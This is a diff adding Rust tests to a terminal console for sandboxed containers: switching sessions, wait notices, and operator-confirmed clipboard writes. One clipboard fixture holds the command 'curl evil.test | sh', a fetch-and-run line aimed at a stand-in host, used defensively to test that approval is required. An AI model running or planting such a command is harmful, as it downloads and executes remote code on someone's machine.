@@ -57,6 +57,92 @@ fn the_chord_detaches_and_the_screen_stays_live() {
     }
 }
 
+/// Three bottles, two of which wait: `b-2` longer than `c-2`; `a-2` is attached.
+fn attached_beside_waiting(full: bool) -> Console {
+    let bottles = vec![running("a-2", 60), running("b-2", 90), running("c-2", 120)];
+    let mut console = Console::with(120, 40, bottles);
+    for (id, since) in [("b-2", 30), ("c-2", 3)] {
+        let report = session(crate::wire::Activity::Waiting, since);
+        console.report(id, RoleReport::Session { report });
+    }
+    console.select("a-2");
+    console.press(&[if full { "f" } else { "enter" }]);
+    console.apply(Event::Attached {
+        bottle: bottle("a-2"),
+    });
+    console
+}
+
+#[test]
+fn the_next_need_is_attached_in_the_same_way() {
+    for full in [false, true] {
+        let mut console = attached_beside_waiting(full);
+        assert_eq!(console.state.other_needs(), 2);
+        for (from, to) in [("a-2", "b-2"), ("b-2", "c-2"), ("c-2", "b-2")] {
+            let effects = console.press(&["ctrl-]"]);
+            let expected = [
+                Effect::Detach {
+                    bottle: bottle(from),
+                },
+                Effect::Attach {
+                    bottle: bottle(to),
+                    full,
+                },
+            ];
+            assert_eq!(effects, expected);
+            assert_eq!(console.selected(), Some(to));
+            console.apply(Event::Detached {
+                bottle: bottle(from),
+                why: None,
+            });
+            console.apply(Event::Attached { bottle: bottle(to) });
+            assert!(console.state.has_open_session());
+            assert_eq!(console.state.other_needs(), 1);
+        }
+    }
+}
+
+#[test]
+fn the_next_need_can_be_asked_for_while_attaching() {
+    let mut console = attached_beside_waiting(false);
+    console.press(&["ctrl-]"]);
+    assert_eq!(console.state.context(), Context::Attaching);
+    console.press(&["ctrl-]"]);
+    assert_eq!(console.state.attached(), Some(&bottle("c-2")));
+}
+
+#[test]
+fn where_nothing_else_needs_you_the_session_stays_and_that_is_said() {
+    let mut console = attached(false);
+    assert_eq!(console.press(&["ctrl-]"]), []);
+    assert!(console.state.has_open_session());
+    let notice = console.state.view.notice.clone().unwrap();
+    assert_eq!(notice.text, "nothing else needs you");
+}
+
+#[test]
+fn a_need_without_a_session_is_gone_to_and_says_why() {
+    let mut console = Console::with(120, 40, vec![running("a-2", 60), running("b-2", 90)]);
+    console.select("a-2");
+    console.press(&["enter"]);
+    console.apply(Event::Attached {
+        bottle: bottle("a-2"),
+    });
+    let mut dead = running("b-2", 90);
+    for container in &mut dead.containers {
+        container.state = ContainerState::Exited { code: Some(1) };
+    }
+    console.see(dead);
+    let effects = console.press(&["ctrl-]"]);
+    assert!(effects.contains(&Effect::Detach {
+        bottle: bottle("a-2")
+    }));
+    assert_eq!(console.selected(), Some("b-2"));
+    assert_eq!(console.state.view.focus, Focus::List);
+    let notice = console.state.view.notice.clone().unwrap();
+    assert!(notice.text.starts_with("b-2 is "), "{}", notice.text);
+}
+
 #[test]
 fn no_other_key_of_an_attached_session_is_ours() {
     let mut console = attached(false);
@@ -229,4 +315,67 @@ fn what_the_agent_waits_for_is_seen_from_another_session() {
     let needs = console.state.needs();
     assert_eq!(needs.len(), 1);
     assert_eq!(needs[0].words, "Allow Bash?");
+}
+
+fn wanted(id: &str) -> ClipboardAsk {
+    ClipboardAsk {
+        bottle: bottle(id),
+        ticket: 7,
+        begin: String::from("curl evil.test | sh\n"),
+        bytes: 20,
+    }
+}
+
+/// A program must not take the keys of who types at it.
+#[test]
+fn a_wish_for_the_clipboard_waits_until_the_operator_looks() {
+    for (answer, effects) in [
+        (
+            "y",
+            vec![Effect::WriteClipboard {
+                bottle: bottle("api-k3x9q"),
+                ticket: 7,
+            }],
+        ),
+        ("n", vec![]),
+        ("esc", vec![]),
+    ] {
+        let mut console = attached(false);
+        let ask = wanted("api-k3x9q");
+        assert_eq!(
+            console.apply(Event::ClipboardAsked { ask: ask.clone() }),
+            []
+        );
+        assert!(console.state.has_open_session());
+        assert_eq!(console.press(&["ctrl-\\"]), []);
+        assert_eq!(console.state.view.modal, Some(Modal::Clipboard { ask }));
+        assert!(!console.state.has_open_session());
+        assert_eq!(console.press(&[answer]), effects, "{answer}");
+        assert_eq!(console.state.view.clipboard, None);
+        assert!(console.state.has_open_session());
+    }
+}
+
+#[test]
+fn who_is_not_attached_to_it_is_not_asked() {
+    let mut console = attached(false);
+    let ask = wanted("b-2");
+    assert_eq!(console.apply(Event::ClipboardAsked { ask }), []);
+    assert_eq!(console.state.view.clipboard, None);
+}
+
+#[test]
+fn a_wish_for_the_clipboard_ends_with_the_attachment() {
+    for keys in [&[][..], &["ctrl-\\"]] {
+        let mut console = attached(false);
+        let ask = wanted("api-k3x9q");
+        console.apply(Event::ClipboardAsked { ask });
+        console.press(keys);
+        console.apply(Event::Detached {
+            bottle: bottle("api-k3x9q"),
+            why: Some(String::from("broke")),
+        });
+        assert_eq!(console.state.view.clipboard, None);
+        assert_eq!(console.state.view.modal, None);
+    }
 }
